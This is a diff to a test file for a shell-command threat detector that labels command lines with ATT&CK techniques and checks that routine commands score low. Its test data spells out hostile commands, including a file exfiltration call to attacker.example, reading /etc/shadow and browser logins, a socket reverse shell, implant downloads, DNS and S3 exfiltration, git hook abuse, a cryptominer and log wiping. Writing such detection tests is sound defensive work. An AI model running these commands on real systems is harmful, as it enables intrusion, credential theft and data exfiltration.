@@ -424,6 +424,10 @@ def _assessed(line: str, parent: str = "bash", uid: int = 1000) -> dict[str, flo
     ("ssh -i /tmp/id_rsa root@10.0.0.5", "T1021.004", 0.35),  # a key kept in a temp place
     ("curl -F file=@/etc/passwd https://attacker.example/u", "T1048", 0.4),  # a system file sent out
     ("python3 -c \"print(open('/etc/shadow').read())\"", "T1003.008", 0.6),  # inline code opens a secret
+    ("python3 -c 'import ctypes;ctypes.CDLL(\"/dev/shm/.k/l.so\")'", "T1129", 0.5),  # a staged library loaded
+    ("python3 -c 'import os;os.system(\"/tmp/.x\")'", "T1204.002", 0.4),  # a staged program started
+    # a socket whose input runs as commands (backticks), in an interpreter not named anywhere here
+    ("crystal eval 's=TCPSocket.new(\"203.0.113.9\",9001); loop { s.puts `#{s.gets}` }'", "T1059.004", 0.8),
 ])
 def test_one_exec_forms_are_read_as_what_they_run(line: str, technique: str, weight: float) -> None:
     assert _assessed(line).get(technique, 0) >= weight, (line, _assessed(line))
@@ -456,10 +460,30 @@ HIDDEN_STAGED_OR_DESTROYED = [
     ("find /home -type f -delete", "T1485"),
     ("echo b > /proc/sysrq-trigger", "T1529"),
 ]
+# Fetched by clients other than curl and wget into staging, set as git's own programs, carried in DNS names, ...
+FETCHED_HOOKED_OR_CARRIED = [
+    ("scp op@203.0.113.9:/srv/kit.tgz /tmp/", "T1105"),
+    ("rsync -a rsync://203.0.113.9/t/ /dev/shm/.k/", "T1105"),
+    ("tftp 203.0.113.9 -c get lin.sh /tmp/lin.sh", "T1105"),
+    ("smbclient //203.0.113.9/s -N -c 'get implant /dev/shm/implant'", "T1105"),
+    ("aria2c -d /dev/shm -o k http://203.0.113.9/m", "T1105"),
+    ("nc -l 9002 > /tmp/agent", "T1105"),
+    ("socat -u TCP:203.0.113.9:9004 OPEN:/tmp/t,creat", "T1105"),
+    ("git config --global core.fsmonitor /tmp/.x", "T1546"),
+    ("git -c core.pager='sh -c id' log", "T1546"),
+    ("dig +short 726f6f743a24793a2436537a4a.a.example.net", "T1048.003"),
+    ("aws s3 cp /var/backups/db.sql s3://drop-9911/ --no-sign-request", "T1567.002"),
+    ("docker run -d --restart always metal3d/xmrig", "T1496"),
+    ("sed -i /203.0.113.9/d /var/log/nginx/access.log", "T1070.002"),
+    ("sqlite3 /home/u/.mozilla/firefox/p.default/logins.json .dump", "T1552.001"),
+    ("cat /var/lib/jenkins/secrets/master.key", "T1552.001"),
+    ("echo alias sudo=/tmp/.x >> /home/u/.bash_aliases", "T1546.004"),
+]
 
 
 @pytest.mark.parametrize(("line", "technique"),
-                         PERSISTENCE_AND_ESCAPE_PLACES + TOOLS_AND_ACTS + HIDDEN_STAGED_OR_DESTROYED)
+                         PERSISTENCE_AND_ESCAPE_PLACES + TOOLS_AND_ACTS + HIDDEN_STAGED_OR_DESTROYED +
+                         FETCHED_HOOKED_OR_CARRIED)
 def test_less_common_techniques_are_named(line: str, technique: str) -> None:
     assert _techniques(line).get(technique, 0) >= 0.3, (line, _techniques(line))
 
@@ -481,6 +505,14 @@ def test_less_common_techniques_are_named(line: str, technique: str) -> None:
     "mkdir -p /tmp/build/.cache",
     "cp ./build/app /usr/bin/app",
     "cp index.php /var/www/html/index.php",
+    "scp deploy@10.0.0.5:/srv/app/build.tgz /home/deploy/",
+    "rsync -az backup01:/backups/ /srv/restore/",
+    "git config --global core.editor vim",
+    "git config --global credential.helper store",
+    "sed -i s/debug/info/ /var/log/app/settings.log",
+    "dig +short api.example.org",
+    "curl -s http://localhost:9100/metrics",
+    "docker run --rm -v /srv:/src builder make",
 ])
 def test_their_routine_neighbours_stay_weak(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
